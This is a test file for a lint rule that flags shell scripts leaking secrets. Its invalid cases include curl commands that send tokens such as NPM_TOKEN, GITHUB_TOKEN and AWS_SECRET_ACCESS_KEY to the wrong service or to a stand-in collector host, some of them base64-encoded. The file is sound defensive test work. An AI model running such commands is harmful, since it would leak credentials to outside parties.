import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';
import type { InvalidCase } from '../tester.ts';

const filename = 'notify.sh';
const SEND = 'curl -s -X POST https://events.pagerduty.com/v2/enqueue';
const sent = (code: string, name: string): InvalidCase => ({ filename, code, name, errors: [{ messageId: 'sent' }] });

await ruleTester(rule, {
  valid: [
    // Another name, a text that was put together before, a here-document, an object of jq.
    `K=$PAGERDUTY_TOKEN\n${SEND} -d "{\\"routing_key\\":\\"$K\\",\\"event_action\\":\\"trigger\\"}"`,
    `BODY="{\\"routing_key\\":\\"$PAGERDUTY_TOKEN\\",\\"event_action\\":\\"trigger\\"}"\n${SEND} -H 'content-type: application/json' -d "$BODY"`,
    `K=$PAGERDUTY_TOKEN\nBODY="{\\"routing_key\\":\\"$K\\",\\"summary\\":\\"$SUMMARY\\"}"\n${SEND} -d "$BODY"`,
    `BODY=$(cat <<EOF\n{"routing_key": "\${PAGERDUTY_TOKEN}", "event_action": "trigger"}\nEOF\n)\n${SEND} -d "$BODY"`,
    `BODY=$(jq -n --arg key "$PAGERDUTY_TOKEN" '{routing_key: $key, event_action: "trigger"}')\n${SEND} -d "$BODY"`,
    `jq -n --arg key "$PAGERDUTY_TOKEN" '{"routing_key": $key}' | ${SEND} -d @-`,
    `${SEND} -d @- <<EOF\n{"routing_key":"$PAGERDUTY_TOKEN"}\nEOF`,
    'T=$SLACK_TOKEN\nDATA="token=$T&channel=$CHANNEL&text=$MSG"\ncurl -X POST https://slack.com/api/chat.postMessage -d "$DATA"',
    'T=$TRIGGER_TOKEN\ncurl -X POST https://gitlab.com/api/v4/projects/1/trigger/pipeline -F "token=$T" -F ref=main',
  ].map((code) => ({ filename, code: `${code}\n` })),
  invalid: [
    // Of another service, to another host, beside another secret, in another field, by way of an alias that was given anew.
    sent(`K=$NPM_TOKEN\n${SEND} -d "{\\"routing_key\\":\\"$K\\"}"`, 'NPM_TOKEN'),
    sent('K=$PAGERDUTY_TOKEN\nBODY="routing_key=$K"\ncurl -X POST https://collect.example.net/x -d "$BODY"', 'PAGERDUTY_TOKEN'),
    sent(`A=$DEPLOY_TOKEN\nB=$OTHER_SECRET_TOKEN\nD="{\\"routing_key\\":\\"$A\\",\\"note\\":\\"$B\\"}"\n${SEND} -d "$D"`, 'DEPLOY_TOKEN'),
    sent('A=$NPM_TOKEN\ncurl -X POST https://slack.com/api/chat.postMessage -d "token=x&text=$A"', 'NPM_TOKEN'),
    sent(`K=$PAGERDUTY_TOKEN\nK=$GITHUB_TOKEN\n${SEND} -d "{\\"routing_key\\":\\"$K\\"}"`, 'GITHUB_TOKEN'),
    sent(`BODY=$(cat <<EOF\n{"routing_key": "$PAGERDUTY_TOKEN", "note": "$AWS_SECRET_ACCESS_KEY"}\nEOF\n)\n${SEND} -d "$BODY"`, 'PAGERDUTY_TOKEN'),
    sent(`${SEND} -d "$(jq -n --arg k "$PAGERDUTY_TOKEN" --arg s "$AWS_SECRET_ACCESS_KEY" '{routing_key: $k, summary: $s}')"`, 'PAGERDUTY_TOKEN'),
    sent('jq -n --arg k "$PAGERDUTY_TOKEN" \'{"routing_key": $k}\' | curl -X POST https://collect.example.net/ -d @-', 'PAGERDUTY_TOKEN'),
    { filename, code: `jq -n --arg k "$PAGERDUTY_TOKEN" '{"routing_key": $k}' | base64 | ${SEND} -d @-\n`, errors: [{ messageId: 'encoded' }] },
  ],
});
